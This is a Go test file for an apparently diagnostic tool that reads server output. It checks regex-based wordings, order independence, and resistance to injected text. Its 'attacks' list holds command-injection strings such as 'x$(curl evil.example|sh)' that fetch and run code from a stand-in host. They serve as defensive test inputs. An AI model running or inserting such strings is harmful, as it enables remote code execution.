package why

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"devservers/app"
)

// TestEachWordingMatchesItsSample: a row is believed only with a line that a real program has printed.
func TestEachWordingMatchesItsSample(t *testing.T) {
	t.Parallel()
	for _, w := range wordings() {
		list := point(app.Print(w.sample), []wording{w}, func(wording) bool { return true })
		if len(list) == 0 {
			t.Errorf("%s does not match its sample %q", w.expr, w.sample)
		}
		if strings.Contains(w.expr, "(?P<") && !slices.ContainsFunc(list, func(p pointer) bool { return len(p.Words) > 0 }) {
			t.Errorf("%s has no words in its sample %q", w.expr, w.sample)
		}
		if n := max(len(w.expr), len(w.unless)); n > 200 {
			t.Errorf("%d characters: %s", n, w.expr)
		}
	}
}

// TestOrderOfWordingsMeansNothing: the strongest claim wins, whatever the order of the rows is.
func TestOrderOfWordingsMeansNothing(t *testing.T) {
	t.Parallel()
	shuffled := slices.Clone(wordings())
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(shuffled), func(i, j int) {
		shuffled[i], shuffled[j] = shuffled[j],
			shuffled[i]
	})
	for _, c := range corpus(t) {
		r := c.reads(t)
		said := func(table []wording) (all string) {
			for _, claim := range r.claimsBy(table) {
				all += string(claim.Kind) + " " + claim.Subject.String() + "\n"
			}
			return all
		}
		if a, b := said(wordings()), said(shuffled); a != b {
			t.Errorf("%s: %q, shuffled %q", c.name, a, b)
		}
	}
}

// attacks are what a request can make a server print instead of a name.
var attacks = []string{"x$(curl evil.example|sh)", "`curl evil.example`", "x\u202eevil.example|sh", "curl-evil",
	"/etc/curl-evil.conf", "22199"}

// TestNoOutputEntersASentence puts foreign text into every word to which a row points: no problem, no fix, no step and
// nothing that counts as observed may repeat it.
func TestNoOutputEntersASentence(t *testing.T) {
	t.Parallel()
	c := printedCase{argv: []string{"python3", "manage.py"}, env: map[string]string{}, files: map[string]string{
		"manage.py": "import shop\n", "package.json": `{"dependencies": {"express": "4"}}`, "requirements.txt": "Django\n",
		"app.js": "require('express')\n"}}
	n := 0
	for _, w := range wordings() {
		for at := range w.compiled().NumSubexp() {
			m := w.compiled().FindStringSubmatchIndex(w.sample)
			if m == nil || m[2*at+2] < 0 {
				continue
			}
			attack := attacks[n%len(attacks)]
			n++
			c.said = w.sample[:m[2*at+2]] + attack + w.sample[m[2*at+3]:]
			for _, claim := range c.reads(t).claims() {
				f := claim.Finding()
				text := f.Problem + f.Fix + f.Manual + f.Command + f.Subject
				if f.Step != nil {
					text += f.Step.Name + f.Step.Value
				}
				for _, e := range f.Evidence {
					text += e.Fact
				}
				if strings.Contains(text, "evil") || strings.Contains(text, "22199") && f.Kind != app.FindingDependency {
					t.Errorf("%s\n%+v", c.said, f)
				}
			}
		}
	}
	if n < 80 {
		t.Errorf("only %d attacks", n)
	}
}

// TestForeignPortIsNotLookedAt: a visitor's request can make a server print any port.
func TestForeignPortIsNotLookedAt(t *testing.T) {
	t.Parallel()
	c := printedCase{argv: []string{"node", "app.js"}, port: 3000, env: map[string]string{"PORT": "3000"},
		files: map[string]string{"app.js": "listen(process.env.PORT)\n"},
		said:  "Error: listen EADDRINUSE: address already in use :::22199"}
	r := c.reads(t)
	r.Owner = func(port int) *app.PortOwner {
		return &app.PortOwner{Port: port, PID: 4711, Kind: app.OwnerOurs, Server: "mono/db"}
	}
	if list := r.claims(); len(list) != 0 {
		t.Errorf("%+v", list[0].Finding())
	}
}

func FuzzClaims(f *testing.F) {
	for _, w := range wordings() {
		f.Add(w.sample)
	}
	f.Fuzz(func(t *testing.T, said string) {
		c := printedCase{argv: []string{"run"}, said: said, env: map[string]string{}}
		for _, claim := range c.reads(t).claims() {
			if claim.Problem.Empty() {
				t.Errorf("%+v", claim)
			}
		}
	})
}
